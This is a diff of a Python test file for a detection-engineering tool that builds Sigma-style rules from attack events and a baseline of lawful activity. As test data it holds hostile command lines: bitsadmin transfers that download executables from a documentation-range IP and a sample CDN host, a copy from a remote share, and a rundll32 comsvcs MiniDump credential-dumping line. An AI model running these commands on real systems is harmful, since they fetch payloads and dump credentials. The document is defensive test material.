@@ -1,68 +1,11 @@
 """From deeds and lawful use to rules: general where lawful use allows it, precise always, else silent."""
 
-from dataclasses import replace
-from datetime import UTC, date, datetime, timedelta
-from typing import Any
+from mining_kit import ATTACK, S32, deed, fires, made, names, quiet, start, table
 
-import polars as pl
-import pytest
-
-from longtail.detections.evasions import Start
-from longtail.detections.generalise import Cluster, Deed, clusters
-from longtail.detections.legitimate import STARTS, Fleet, fleet
-from longtail.detections.meanings import GENERAL
-from longtail.detections.mining import Mined, mined
-from longtail.detections.neutral import neutral
-from longtail.detections.predicates import EVENT, conjunction, lowered
-from longtail.detections.proof import lawful, proof, status
-from longtail.detections.rules import Rule, rule_id
-from longtail.detections.sigma import parsed
-from longtail.detections.synthesis import MOST_EXPECTED, Found, synthesised
-
-S32 = "C:\\Windows\\System32\\"
-NOW = datetime(2026, 3, 4, 5, tzinfo=UTC)
-ATTACK = "bitsadmin  /transfer n http://198.51.100.7/Svn.exe c:\\Users\\Public\\Svn.exe"
-
-
-def start(number: int, line: str, image: str = S32 + "bitsadmin.exe", **changes: Any) -> dict[str, Any]:
-    day = NOW.date() + timedelta(days=changes.pop("days", 0))
-    told = {"tenant": "t", "host": f"h{number}", "account": "a", "account_class": "human", "day": day, "image": image,
-            "command_line": line, "parent_image": "C:\\a.exe", "parent_command_line": None, "runs": 1}  # fmt: skip
-    return {**told, **changes}
-
-
-def table(*rows: dict[str, Any]) -> pl.DataFrame:
-    return pl.DataFrame(rows, schema=STARTS, orient="row")
-
-
-def quiet(hosts: int = 400, tenants: int = 8) -> list[dict[str, Any]]:
-    return [start(host, "svchost.exe -k a", S32 + "svchost.exe", days=day, tenant=f"t{host % tenants}")
-            for host in range(hosts) for day in range(3)]  # fmt: skip
-
-
-def deed(line: str, image: str = S32 + "bitsadmin.exe", **changes: Any) -> Deed:
-    told = Deed(date(2026, 3, 4), "v", "attacked", "svc", "mssql", image, line, S32 + "cmd.exe", "1", 3, NOW)
-    return replace(told, **changes)
-
-
-def made(deeds: list[Deed], starts: list[dict[str, Any]]) -> tuple[list[Found], list[str], Fleet]:
-    of_fleet = fleet(table(*starts), deeds)
-    known = of_fleet.known | {"bitsadmin.exe", "certutil.exe", "whoami.exe", "taskkill.exe", "cmd.exe", "svchost.exe"}
-    found, reasons = [], []
-    for cluster in clusters(deeds, known):
-        good, left = synthesised(cluster, of_fleet)
-        found += good
-        reasons += [each.reason for each in left]
-    return found, reasons, of_fleet
-
-
-def names(found: Found) -> list[str]:
-    return [each.name for each in found.logic.predicates]
-
-
-def fires(found: Found, line: str, image: str = S32 + "bitsadmin.exe") -> bool:
-    event = pl.DataFrame([(image, line, None, None, None)], schema=EVENT, orient="row")
-    return bool(conjunction(found.logic.predicates, lowered(event))[0])
+from longtail.detections.legitimate import fleet
+from longtail.detections.proof import lawful, proof
+from longtail.detections.rules import rule_id
+from longtail.detections.synthesis import MOST_EXPECTED
 
 
 def test_the_articles_rule() -> None:
@@ -95,6 +38,16 @@ def test_more_lawful_use_makes_a_narrower_rule() -> None:
     assert wide[0].logic.kept > narrow[0].logic.kept
     assert all(each.logic.expected <= MOST_EXPECTED for each in (*wide, *narrow))
     assert proof(narrow[0], lawful(of_fleet)).whole.host_days == 0
+
+
+def test_a_rule_demands_what_else_its_deeds_share() -> None:
+    """Lawful transfers go to writable places too: a program as their target is what sets the deeds apart. In fleets of
+    other habits such transfers go elsewhere, so the place is demanded all the same."""
+    lawful_use = [start(host, f"bitsadmin /transfer j http://wsus/{host}.zip c:\\ProgramData\\{host}.zip",
+                        tenant=f"t{host}") for host in range(6)]  # fmt: skip
+    (found,), _, _ = made([deed(ATTACK)], [*quiet(), *lawful_use])
+    assert {"remote", "names_program", "writable"} <= set(names(found))
+    assert fires(found, "bitsadmin -transfer u https://cdn.example.net/x1.exe C:\\Windows\\Temp\\x1.exe")
 
 
 def test_nothing_telling_is_refused_however_rare() -> None:
@@ -194,88 +147,6 @@ def test_days_of_an_attack_are_neither_lawful_not_counted() -> None:
     assert of_fleet.use(("bitsadmin.exe",)).faces.is_empty()
 
 
-@pytest.mark.parametrize(
-    ("hosts", "tenants", "of_hosts", "expected"),
-    [(1, 1, 400, "experimental"), (4, 2, 400, "test"), (12, 3, 1200, "stable"), (12, 3, 20, "experimental")],
-)
-def test_status_follows_evidence(hosts: int, tenants: int, of_hosts: int, expected: str) -> None:
-    deeds = [deed(ATTACK, host=f"a{n}", tenant=f"v{n % tenants}", day=date(2026, 3, 4 + n % 3)) for n in range(hosts)]
-    (found,), _, of_fleet = made(deeds, quiet(of_hosts))
-    assert status(found, proof(found, lawful(of_fleet))) == expected
-
-
-def test_what_was_held_against_nothing_is_not_called_precise() -> None:
-    (rule,) = mined([object_of(ATTACK)], table()).rules
-    assert rule.status == "experimental" and rule.proof.whole.of_host_days == 0
-    assert "held against no lawful use at all" in rule.description
-    assert "too little lawful use to call it precise" in mine(hosts=40).rules[0].description
-    assert "too little" not in mine().rules[0].description
-
-
-def test_a_file_of_one_letter_is_no_word_of_a_rule() -> None:
-    """Rules have words of one letter, as in ``cmd.exe -a``; a file called so belongs to the instance all the same."""
-    logic = [row.predicate for row in GENERAL if row.predicate.name == "inner_shell"]
-    told = neutral(Start(S32 + "wmic.exe", 'wmic process call create "cmd.exe -a C:\\Users\\Public\\a.exe"'), logic)
-    assert "a.exe" not in told.command_line and "cmd.exe -a C:\\Users\\Public\\" in told.command_line
-
-
-@pytest.mark.parametrize("number", ["7", "0", "09", "309", "624", "4098", "0987654321"])
-def test_no_number_of_the_instance_stays(number: str) -> None:
-    line = f"rundll32 comsvcs.dll, MiniDump {number} x full"
-    assert f" {number} " not in neutral(Start(S32 + "rundll32.exe", line)).command_line
-
-
-def object_of(line: str, **changes: Any) -> dict[str, Any]:
-    told = {
-        "id": "1",
-        "tenant": "v",
-        "account": "svc",
-        "account_class": "mssql",
-        "host": "attacked",
-        "severity": "high",
-    }
-    execution = {"time": "2026-03-04T05:00:00Z", "image": S32 + "bitsadmin.exe", "command_line": line,
-                 "parent_image": S32 + "cmd.exe", "role": "anomaly"}  # fmt: skip
-    return {**told, **changes, "executions": [execution]}
-
-
-def mine(existing: str = "", hosts: int = 400) -> Mined:
-    rules = parsed(existing, "existing").rules if existing else ()
-    known = [start(host, "bitsadmin /list", days=1) for host in range(4)]
-    return mined([object_of(ATTACK)], table(*quiet(hosts), *known), rules)
-
-
-def test_a_rules_file_names_no_victim_and_reads_back() -> None:
-    pytest.importorskip("sigma")
-    (rule,) = mine().rules
-    assert not any(word in rule.text.lower() for word in ("svn", "198.51", "attacked", "svc"))
-    read = parsed(rule.text, rule.file_name)
-    assert len(read.rules) == 1 and not read.refused
-    assert (read.rules[0].id, read.rules[0].title) == (rule.id, rule.title)
-    assert rule.techniques == ("T1105", "T1197")
-    assert rule.day == date(2026, 3, 4) and rule.level == "high"
-
-
-def test_what_proves_a_rule() -> None:
-    (rule,) = mine().rules
-    proof = rule.proof
-    assert proof.whole.host_days == 0 and proof.whole.upper > 0
-    assert proof.transfers == 1 and not proof.account_rule
-    assert [each.command_line for each in proof.must] == [ATTACK]
-    assert [each.command_line for each in proof.must_not] == ["bitsadmin /list"]
-    assert {"case", "blanks", "absolute path"} <= set(proof.survives)
-    assert "renamed image where the original name is not logged" in proof.evaded_by
-
-
-def test_marginal_coverage_names_the_rules_that_know_it_already() -> None:
-    pytest.importorskip("sigma")
-    existing = ("title: Any bitsadmin\nlogsource: {category: process_creation, product: windows}\n"
-                "detection: {a: {Image|endswith: \\bitsadmin.exe}, condition: a}\n")  # fmt: skip
-    known: Rule = mine(existing).rules[0]
-    assert (known.proof.known_to, known.proof.new) == (("Any bitsadmin",), 0.0)
-    assert (mine().rules[0].proof.known_to, mine().rules[0].proof.new) == ((), 1.0)
-
-
 def test_a_service_as_parent_is_the_last_resort_and_makes_an_account_rule() -> None:
     line = '"C:\\Windows\\system32\\cmd.exe" /c copy \\\\198.51.100.7\\a\\b.exe C:\\Users\\Public\\b.exe'
     sql = "C:\\MSSQL\\Binn\\sqlservr.exe"
@@ -284,9 +155,3 @@ def test_a_service_as_parent_is_the_last_resort_and_makes_an_account_rule() -> N
     found, _, of_fleet = made([deed(line, S32 + "cmd.exe", parent_image=sql)], [*quiet(), *same])
     assert [each.logic.account_rule for each in found] == [True]
     assert proof(found[0], lawful(of_fleet)).account_rule
-
-
-def test_an_empty_fleet_and_no_alerts() -> None:
-    assert mined([], table()) == Mined((), (), ())
-    assert mined([object_of(ATTACK)], table()).rules
-    assert isinstance(clusters([], frozenset()), tuple) and Cluster("a", None, (), False).label == "a"
